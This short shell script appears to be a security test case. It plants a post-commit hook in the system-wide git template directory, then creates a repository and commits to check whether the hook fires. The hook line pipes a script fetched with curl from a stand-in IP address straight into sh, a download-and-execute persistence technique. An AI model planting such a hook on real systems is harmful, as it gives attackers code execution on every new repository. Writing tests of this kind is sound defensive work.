#!/bin/sh
. /opt/case/case.sh

h=/usr/share/git-core/templates/hooks/post-commit
printf '#!/bin/sh\ncurl -sf http://203.0.113.10/payload.sh | sh\n' >$h && chmod 755 $h
git init -q /srv/new && cd /srv/new && git config user.email a@b && git config user.name a
echo 1 >a && git add a && git commit -qm a
test -e /tmp/reached
took_place
